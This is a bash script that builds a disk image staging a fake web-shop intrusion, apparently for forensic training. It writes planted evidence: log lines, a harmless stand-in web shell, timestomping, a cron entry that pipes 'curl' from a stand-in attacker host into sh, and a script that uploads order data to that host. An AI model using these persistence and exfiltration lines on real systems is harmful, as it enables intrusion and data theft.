#!/bin/bash
# The story of the disk, played on a Linux kernel whose clock is set before each event. Called by
# build-image.sh as the first process of that kernel; the file system lies on /dev/ubda.
set -eu
export PATH=/usr/sbin:/usr/bin:/sbin:/bin TZ=UTC LC_ALL=C
umask 022
ATTACKER=203.0.113.66
LOG=/mnt/var/log/web/access.log

at() { sync; date -s "$1" > /dev/null; }
# line <address> <local time> <request> <status> <bytes>
line() { printf '%s - - [20/Oct/2025:%s +0200] "%s HTTP/1.1" %s %s\n' "$@" >> $LOG; }
as_web() { setpriv --reuid=33 --regid=33 --clear-groups sh -c "$1"; }

mount -t proc proc /proc
at '2025-09-01 07:00:00'
mount -t ext4 /dev/ubda /mnt
mkdir -p /mnt/var/www/shop/uploads /mnt/var/www/shop/orders /mnt/var/log/web /mnt/etc/cron.d
mkdir -m 1777 /mnt/tmp
chown 33:33 /mnt/var/www/shop/uploads /mnt/var/www/shop/orders
echo '<h1>Shop</h1><p>Open from Monday to Friday.</p>' > /mnt/var/www/shop/index.html
echo '<form method="post"><input type="file"></form>' > /mnt/var/www/shop/upload.html
echo '0 3 * * 1 root /usr/sbin/logrotate /etc/logrotate.conf' > /mnt/etc/cron.d/logs
: > $LOG

at '2025-10-19 17:42:30'
as_web "printf 'order;article;pieces\n1182;lamp;1\n1183;chair;4\n' > /mnt/var/www/shop/orders/2025-10.csv"

at '2025-10-20 09:02:11'
cat /mnt/var/www/shop/index.html > /dev/null
line 198.51.100.23 11:02:11 'GET /' 200 48
at '2025-10-20 09:14:31'
line $ATTACKER 11:14:31 'GET /admin/' 404 153
line $ATTACKER 11:14:31 'GET /backup/' 404 153
at '2025-10-20 09:14:32'
cat /mnt/var/www/shop/upload.html > /dev/null
line $ATTACKER 11:14:32 'GET /upload.html' 200 49

at '2025-10-20 09:21:07'
as_web "echo '<?php /* stand-in for a web shell: runs nothing */ ?>' > /mnt/var/www/shop/uploads/invoice.php"
line $ATTACKER 11:21:07 'POST /upload' 200 27
at '2025-10-20 09:24:18'
cat /mnt/var/www/shop/uploads/invoice.php > /dev/null
line $ATTACKER 11:24:18 'GET /uploads/invoice.php?c=id' 200 54
at '2025-10-20 09:25:02'
as_web 'touch -r /mnt/var/www/shop/index.html /mnt/var/www/shop/uploads/invoice.php'
at '2025-10-20 09:26:40'
echo "*/30 * * * * root curl -s http://$ATTACKER/c | sh" > /mnt/etc/cron.d/php-clean

at '2025-10-20 09:27:09'
cat /mnt/var/www/shop/uploads/invoice.php > /dev/null
as_web 'cat > /mnt/tmp/.c' <<END
#!/bin/sh
# stand-in for the script that collected data
tar cf /tmp/.o /var/www/shop/orders
curl -T /tmp/.o http://$ATTACKER/in
END
line $ATTACKER 11:27:09 'POST /uploads/invoice.php' 200 0
at '2025-10-20 09:27:10'
as_web 'tar cf /mnt/tmp/.o -C /mnt var/www/shop/orders'
at '2025-10-20 09:29:55'
cat /mnt/var/www/shop/uploads/invoice.php > /dev/null
as_web 'rm /mnt/tmp/.c /mnt/tmp/.o'
line $ATTACKER 11:29:55 'POST /uploads/invoice.php' 200 0

at '2025-10-20 09:40:00'
# Pulling the plug: the journal keeps its unfinished business.
echo o > /proc/sysrq-trigger
sleep 60
